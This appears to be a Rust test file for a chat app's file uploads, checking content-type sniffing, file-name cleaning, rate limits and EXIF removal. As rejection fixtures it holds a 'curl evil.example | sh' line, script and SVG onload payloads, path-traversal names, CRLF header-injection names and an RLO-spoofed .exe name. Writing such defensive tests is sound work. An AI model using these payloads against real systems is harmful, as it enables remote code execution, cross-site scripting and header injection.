//! What is taken, what is refused, and what becomes of names.

use super::{PDF, PNG, Talk, files_of, folder, stored, talk};
use crate::client::{Client, SentFile, granted, refused};
use crate::desk::{Desk, on_both};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use uuid::Uuid;
use wire::Said;

/// The beginning of a picture of that size.
fn png(width: u32, height: u32) -> Vec<u8> {
    let mut png = PNG.to_vec();
    png[16..20].copy_from_slice(&width.to_be_bytes());
    png[20..24].copy_from_slice(&height.to_be_bytes());
    png
}

async fn is_sent(client: &Client, chat: Uuid, name: &str, bytes: &[u8]) -> wire::FileView {
    let said: Said = granted(name, client.try_send_file(chat, &SentFile::new(name, bytes)).await);
    let files = files_of(client, chat).await;
    files.into_iter().find(|(seq, _)| *seq == said.seq).expect("the file").1
}

#[tokio::test]
async fn content_decides_and_what_would_be_run_is_refused_whatever_it_is_called() {
    on_both(async |desk: Desk| {
        let Talk {
            desk,
            ines,
            priya,
            chat,
            ..
        } = talk(desk).await;
        for (name, bytes, kind) in [
            ("a.png", PNG, "image/png"),
            (
                "a.gif",
                b"GIF89a\x02\0\x03\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x02\0\x03\0\0\x02\x02\x84\x51\0;",
                "image/gif",
            ),
            ("Rechnung.pdf", PDF, "application/pdf"),
            ("zeiten.csv", "Schiff;Abfahrt\nSæter;08:10\n".as_bytes(), "text/csv"),
            (
                "brief.odt",
                b"PK\x03\x04\x14\0\0\x08\0\0",
                "application/vnd.oasis.opendocument.text",
            ),
            ("bilder.zip", b"PK\x03\x04\x14\0\0\x08\0\0", "application/zip"),
            // What it is called is no matter.
            ("foto.jpg", PNG, "image/png"),
        ] {
            assert_eq!(is_sent(&ines, chat, name, bytes).await.kind, kind, "{name}");
        }
        assert_eq!(
            is_sent(&ines, chat, "wide.png", &png(8_000, 5_000)).await.width,
            Some(8_000)
        );

        let (before, kept) = (priya.snapshot(chat).await.entries.len(), stored(&folder(&desk)));
        for (name, bytes) in [
            (
                "foto.png",
                &b"<!DOCTYPE html><script>parent.location='//evil.example'</script>"[..],
            ),
            (
                "foto.png",
                b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
            ),
            ("foto.svg", b"<?xml version=\"1.0\"?>\n<svg onload=\"alert(1)\"/>"),
            ("notiz.txt", b"\n\t <html><body onload=alert(1)>"),
            ("notiz.txt", b"#!/bin/sh\ncurl evil.example | sh\n"),
            ("foto.png", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0"),
            ("foto.png", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0"),
            ("foto.png", b"\x89PNG\r\n\x1a\n<script>"),
            ("notiz.txt", b"\x1b]0;owned\x07 \x1b[2J"),
        ] {
            let said = priya.try_send_file(chat, &SentFile::new(name, bytes)).await;
            refused(said, 415, "file_type");
        }
        let large = png(8_000, 5_001);
        refused(
            priya.try_send_file(chat, &SentFile::new("a.png", &large)).await,
            422,
            "picture_too_large",
        );
        refused(
            priya.try_send_file(chat, &SentFile::new("a.png", b"")).await,
            422,
            "file_empty",
        );
        assert_eq!(priya.snapshot(chat).await.entries.len(), before);
        assert_eq!(stored(&folder(&desk)), kept, "nothing of them is left");
        desk.verify().await;
    })
    .await;
}

#[tokio::test]
async fn a_name_is_a_label_and_nothing_else() {
    on_both(async |mut desk: Desk| {
        desk.restart_with(crate::desk::CROWDED).await;
        let Talk {
            desk,
            ines,
            priya,
            chat,
            ..
        } = talk(desk).await;
        let long = format!("{}.png", "ä".repeat(1_000));
        let cut = format!("{}.png", "ä".repeat(116));
        for (given, stored) in [
            ("../../../etc/passwd", "passwd.png"),
            ("..\\..\\windows\\system32\\cmd.exe", "cmd.exe.png"),
            ("/etc/cron.d/x", "x.png"),
            (
                "a\r\nSet-Cookie: deskbell_agent=x\r\n\r\n<html>",
                "aSet-Cookie_ deskbell_agent=x_html_.png",
            ),
            ("a\0b\u{7f}\u{9b}.png", "ab.png"),
            ("Rechnung\u{202e}gnp.exe", "Rechnunggnp.exe.png"),
            ("\"; filename=\"x.html", "_; filename=_x.html.png"),
            ("%2e%2e%2fx.png", "%2e%2e%2fx.png"),
            ("CON.png ", "CON.png"),
            ("عقد.png", "عقد.png"),
            (&long, &cut),
            ("", "file.png"),
        ] {
            let file = is_sent(&priya, chat, given, PNG).await;
            assert_eq!(file.name, stored, "{given:?}");
            let seq = files_of(&ines, chat).await.last().expect("a file").0;
            let answer = ines.fetch_file(chat, seq).await;
            let headers = answer.headers();
            assert!(headers.get("set-cookie").is_none());
            let disposition = headers["content-disposition"].to_str().expect("ASCII");
            assert!(
                disposition.starts_with("inline; filename=\"") && disposition.matches('"').count() == 2,
                "{disposition}"
            );
            assert_eq!(headers["content-type"], "image/png");
        }
        // So much as no name has does not even come in.
        let endless = "ä".repeat(4_000);
        let request = priya.request(
            reqwest::Method::POST,
            &format!("/api/chats/{chat}/files?cid={}&size=69", Uuid::now_v7()),
        );
        let name: String = endless.bytes().map(|byte| format!("%{byte:02X}")).collect();
        let answer = request.header("X-Deskbell-File-Name", name).body(PNG).send().await;
        assert!(answer.is_err() || answer.is_ok_and(|answer| answer.status() == 431));
        // All of them are one content, and its name is its own.
        assert_eq!(stored(&folder(&desk)).len(), 1);
        desk.verify().await;
    })
    .await;
}

#[tokio::test]
async fn a_person_sends_so_much_a_day_and_so_often_a_minute() {
    on_both(async |mut desk: Desk| {
        desk.restart_with(&[("visitor_files_mib", 1), ("files_of_one_per_min", 4)])
            .await;
        let Talk {
            desk,
            ines,
            priya,
            chat,
            ..
        } = talk(desk).await;
        let text = |n: u8| vec![b'a' + n; 600 * 1024];
        priya.send_file(chat, "a.txt", &text(0)).await;
        let over = priya.try_send_file(chat, &SentFile::new("b.txt", &text(1))).await;
        assert_eq!(refused(over, 429, "files_over_day").limit, Some(1024 * 1024));
        priya.send_file(chat, "c.txt", b"A short one.").await;
        for n in 2..4 {
            ines.send_file(chat, "d.txt", &text(n)).await;
        }
        priya.send_file(chat, "e.txt", b"Another one.").await;
        let often = priya
            .try_send_file(chat, &SentFile::new("f.txt", b"And one more."))
            .await;
        assert!(refused(often, 429, "too_many").retry_after_ms.is_some());
        desk.verify().await;
    })
    .await;
}

/// Sixteen pixels wide and eight high.
pub(super) const JPEG: &str = "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDABsSFBcUERsXFhceHBsgKEIrKCUlKFE6PTBCYFVlZF9VXVtqeJmBanGQc1tdhbWGkJ6jq62rZ4C8ybqmx5moq6T/\
    2wBDARweHigjKE4rK06kbl1upKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKT/wAARCAAIABADASIAAhEBAxEB/8QA\
    FQABAQAAAAAAAAAAAAAAAAAAAAT/xAAUEAEAAAAAAAAAAAAAAAAAAAAA/8QAFAEBAAAAAAAAAAAAAAAAAAAABP/EABgRAAIDAAAAAAAAAAAAAAAAAAAFQoHB\
    /9oADAMBAAIRAxEAPwCBCBiqdaPZRvD/2Q==";
/// Turned a quarter, at 59.0 north and 5.7 east, by a telephone of that make.
const EXIF: &[u8] = b"\xff\xe1\0\xa8Exif\0\0MM\0*\0\0\0\x08\0\x03\x01\x0f\0\x02\0\0\0\x08\0\0\0\x32\x01\x12\0\x03\0\0\0\x01\0\x06\0\0\x88\x25\0\x04\0\0\0\x01\0\0\0\x3a\0\0\0\0\
    Fonokam\0\0\x04\0\x01\0\x02\0\0\0\x02N\0\0\0\0\x02\0\x05\0\0\0\x03\0\0\0\x70\0\x03\0\x02\0\0\0\x02E\0\0\0\0\x04\0\x05\0\0\0\x03\0\0\0\x88\0\0\0\0\
    \0\0\0\x3b\0\0\0\x01\0\0\0\0\0\0\0\x01\0\0\0\0\0\0\0\x01\0\0\0\x05\0\0\0\x01\0\0\0\x2a\0\0\0\x01\0\0\0\0\0\0\0\x01";

#[tokio::test]
async fn a_photograph_does_not_tell_where_it_was_taken_and_stays_upright() {
    on_both(async |desk: Desk| {
        let Talk {
            desk,
            ines,
            priya,
            chat,
            ..
        } = talk(desk).await;
        let plain = STANDARD.decode(JPEG).expect("base64");
        let photo = [&plain[..2], EXIF, &plain[2..]].concat();
        let sent = SentFile::new("IMG_2041.jpg", &photo);
        for _ in 0..2 {
            // Sent again it is the same file.
            granted::<Said>("a photograph", priya.try_send_file(chat, &sent).await);
        }
        let (seq, file) = files_of(&ines, chat).await.pop().expect("the file");
        // As it is shown: a quarter turned.
        assert_eq!((file.width, file.height), (Some(8), Some(16)));
        let served = ines.fetch_file(chat, seq).await.bytes().await.expect("a body");
        assert_eq!(file.size, served.len() as i64);
        for gone in [&b"Fonokam"[..], b"\x88\x25", b"\0\0\0\x3b\0\0\0\x01"] {
            assert!(
                !served.windows(gone.len()).any(|window| window == gone),
                "{gone:?} in {served:?}"
            );
        }
        let turned = b"Exif\0\0MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x06";
        assert!(
            served.windows(turned.len()).any(|window| window == turned),
            "{served:?}"
        );
        // What it shows is untouched.
        assert!(served.ends_with(&plain[20..]));
        // And nothing of it lies anywhere.
        assert_eq!(stored(&folder(&desk)).len(), 1);
        desk.verify().await;
    })
    .await;
}
